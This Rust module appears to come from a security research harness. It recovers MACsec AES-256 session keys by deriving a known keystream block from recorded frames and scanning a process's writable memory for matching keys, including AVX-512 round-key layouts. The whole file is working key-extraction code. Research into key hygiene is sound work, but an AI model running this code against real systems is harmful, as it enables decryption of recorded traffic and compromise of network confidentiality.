//! A recorded frame, and a search for its key in the memory of a process. This is the attack of an
//! adversary who records the line and later captures a box.
//!
//! Salt and nonce are not needed. One block of the frame's plaintext is known, and so is one block
//! of the key stream. The right key decrypts that block to a counter block with a known counter.

use aes::Aes256;
use aes::cipher::{BlockCipherDecrypt, KeyInit};

use crate::hosts::{MARKER, MARKER_AT};
use crate::memory::read_all;

/// Octets of a block and of a round key.
const BLOCK: usize = 16;
/// Octets of a key.
const KEY: usize = 32;
/// Alignment of keys in memory.
const ALIGNMENT: usize = 4;
/// The AVX-512 engine stores each round key four times.
const BROADCAST: usize = 4 * BLOCK;
/// The upper two octets of a number or an address in memory are zero. Random words match with 1 in
/// 65,536.
const SMALL: u64 = 1 << 48;
/// Random keys have fewer distinct octets than this in one of 10^11 cases.
const DIFFERENT_MIN: usize = 18;
/// Offset of the protected part of a red frame, after the addresses.
const PROTECTED: usize = 12;
/// Octets of a SecTAG with an SCI.
const SECTAG: usize = 16;

/// Known values of one protected frame.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Recorded {
    key_stream: [u8; BLOCK],
    counter: u32,
}

impl Recorded {
    /// Reads a MACsec frame from the line that carries a host's frame.
    #[must_use]
    pub fn of(frame: &[u8]) -> Option<Self> {
        // The first block that lies inside the known text.
        let number = (MARKER_AT - PROTECTED).div_ceil(BLOCK);
        let at = number * BLOCK;
        let words = MARKER.get(at + PROTECTED - MARKER_AT..)?.get(..BLOCK)?;
        let sealed = frame.get(PROTECTED + SECTAG + at..)?.get(..BLOCK)?;
        Some(Self {
            key_stream: core::array::from_fn(|n| sealed[n] ^ words[n]),
            // Counter 1 is used for the ICV.
            counter: u32::try_from(number).ok()? + 2,
        })
    }

    fn is_opened_by(&self, cipher: &Aes256) -> bool {
        let mut block = self.key_stream.into();
        cipher.decrypt_block(&mut block);
        block[12..] == self.counter.to_be_bytes()
    }
}

/// For each frame, the place of its key in the memory of a process.
///
/// # Errors
/// If this process may not read it.
pub fn find_keys(pid: u32, frames: &[Recorded]) -> std::io::Result<Vec<Option<String>>> {
    let mut places = vec![None; frames.len()];
    let mut attempt = |key: &[u8; KEY], place: &dyn Fn() -> String| {
        if !looks_random(key) {
            return;
        }
        let cipher = Aes256::new(key.into());
        for (frame, found) in frames.iter().zip(&mut places) {
            if found.is_none() && frame.is_opened_by(&cipher) {
                *found = Some(place());
            }
        }
    };
    read_all(pid, BROADCAST + BLOCK, |[rights, name], at, octets| {
        if !rights.contains('w') {
            return; // unchanged since it was loaded from the program file
        }
        for start in (0..octets.len().saturating_sub(KEY)).step_by(ALIGNMENT) {
            let rest = &octets[start..];
            let Some(plain) = rest.first_chunk::<KEY>() else {
                continue;
            };
            let place = || format!("{name} {:x}", at + start as u64);
            if plain[..BLOCK] != plain[BLOCK..] {
                attempt(plain, &place);
            } else if let Some(second) = rest.get(BROADCAST..BROADCAST + BLOCK) {
                let mut key = *plain;
                key[BLOCK..].copy_from_slice(second);
                attempt(&key, &place);
            }
        }
    })?;
    Ok(places)
}

fn looks_random(key: &[u8; KEY]) -> bool {
    let (words, _) = key.as_chunks::<8>();
    if words.iter().any(|word| u64::from_le_bytes(*word) < SMALL) {
        return false;
    }
    let mut seen = [false; 256];
    for octet in key {
        seen[usize::from(*octet)] = true;
    }
    seen.iter().filter(|seen| **seen).count() >= DIFFERENT_MIN
}
